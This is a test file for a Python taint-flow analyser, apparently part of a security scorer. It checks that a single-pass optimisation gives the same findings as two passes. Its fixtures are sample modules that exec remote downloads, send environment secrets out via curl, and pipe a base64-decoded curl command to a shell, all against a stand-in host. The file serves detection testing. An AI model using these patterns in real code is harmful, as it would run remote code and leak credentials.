"""The Python flow engine walks a module's functions once when a second walk would repeat
the first; its reports equal those of the two walks it replaces."""

from __future__ import annotations

from pathlib import Path

import pytest

from scorers.static_judge.flow.python_engine import PythonFlow, analyse_package
from scorers.static_judge.flow.taint import EMPTY

ROOT = Path(__file__).resolve().parents[1]


class TwoWalks(PythonFlow):
    """The plain computation: a silent walk of every function, then a recording one."""

    always_twice = True


class OneWalkUnchecked(PythonFlow):
    """A single walk that never checks what it read (wrong when a later function matters)."""

    def _reads_are_final(self, reads: list[tuple[str, object, object]]) -> bool:
        return True


FORWARD_CALL = """
import requests

def main():
    data = fetch()
    exec(data)

def fetch():
    return requests.get("https://x.invalid/p").text
"""

BACKWARD_CALL = """
import requests

def fetch():
    return requests.get("https://x.invalid/p").text

def main():
    exec(fetch())
"""

RECURSION = """
import os, subprocess

def walk(depth):
    if depth:
        return walk(depth - 1)
    return os.environ["API_TOKEN"]

def run():
    subprocess.run(["curl", "-d", walk(3), "https://x.invalid"])
"""

ATTRIBUTE_SET_LATER = """
import urllib.request

class Job:
    def start(self):
        exec(self.code)

    def load(self):
        self.code = urllib.request.urlopen("https://x.invalid/c").read()
"""

SAME_NAMED_METHODS = """
import os, requests

class A:
    def value(self):
        return "plain"

    def send(self):
        requests.post("https://x.invalid", data=self.value())

class B:
    def value(self):
        return os.environ["SECRET_KEY"]
"""

DECODED_PAYLOAD = """
import base64, subprocess

def go():
    cmd = base64.b64decode("Y3VybCBodHRwczovL3guaW52YWxpZCB8IHNo")
    subprocess.run(cmd, shell=True)
"""

PARAMETER_SINK_BEFORE_DEFINITION = """
import os, subprocess

def caller():
    helper(os.environ["AWS_SECRET_ACCESS_KEY"])

def helper(value):
    subprocess.run(["curl", "-d", value, "https://x.invalid"])
"""

PRINTED_DOWNLOAD = """
import requests

def show():
    print(get())

def get():
    return requests.get("https://x.invalid/rules.md").text
"""

SOURCES = [
    FORWARD_CALL,
    BACKWARD_CALL,
    RECURSION,
    ATTRIBUTE_SET_LATER,
    SAME_NAMED_METHODS,
    DECODED_PAYLOAD,
    PARAMETER_SINK_BEFORE_DEFINITION,
    PRINTED_DOWNLOAD,
    "def f(:\n",
    "x = 1\n",
]


def _corpus_scripts() -> list[tuple[str, str]]:
    """Every seventh Python file of the committed corpus (a spread of real module shapes)."""
    files = sorted((ROOT / "datasets" / "skills").rglob("*.py"))[::7]
    return [
        (str(p.relative_to(ROOT)), p.read_text(encoding="utf-8", errors="replace")) for p in files
    ]


@pytest.mark.parametrize("source", SOURCES)
def test_single_walk_report_equals_two_walks(source: str) -> None:
    assert PythonFlow("x.py", source).run() == TwoWalks("x.py", source).run()


def test_single_walk_equals_two_walks_on_corpus_scripts() -> None:
    scripts = _corpus_scripts()
    assert len(scripts) > 50
    for path, text in scripts:
        assert PythonFlow(path, text).run() == TwoWalks(path, text).run(), path


@pytest.mark.parametrize(
    "source",
    [FORWARD_CALL, ATTRIBUTE_SET_LATER, PARAMETER_SINK_BEFORE_DEFINITION, PRINTED_DOWNLOAD],
)
def test_a_value_a_later_function_changes_forces_the_second_walk(source: str) -> None:
    """Without the check these modules would lose (or gain) findings: the check matters."""
    assert OneWalkUnchecked("x.py", source).run() != TwoWalks("x.py", source).run()
    assert PythonFlow("x.py", source).run() == TwoWalks("x.py", source).run()


def test_forward_call_is_still_found() -> None:
    report = PythonFlow("x.py", FORWARD_CALL).run()
    assert any(f.severity == "critical" for f in report.findings)


def test_reads_are_checked_against_the_final_tables() -> None:
    flow = PythonFlow("x.py", BACKWARD_CALL)
    flow.run()
    summary = flow.summaries["fetch"]
    assert flow._reads_are_final([("summary", "fetch", summary), ("attr", "self.x", EMPTY)])
    assert not flow._reads_are_final([("summary", "main", None)])
    assert not flow._reads_are_final([("payload", 3, "changed")])


def test_package_analysis_equals_two_walks(monkeypatch: pytest.MonkeyPatch) -> None:
    sources = [
        (
            "scripts/helpers.py",
            "import requests\n\ndef fetch(u):\n    return requests.get(u).text\n",
        ),
        (
            "scripts/main.py",
            "from helpers import fetch\n\ndef run():\n    exec(fetch('https://x.invalid'))\n",
        ),
        ("scripts/other.py", FORWARD_CALL),
    ]
    single = analyse_package(sources)
    monkeypatch.setattr(PythonFlow, "always_twice", True)
    assert analyse_package(sources) == single
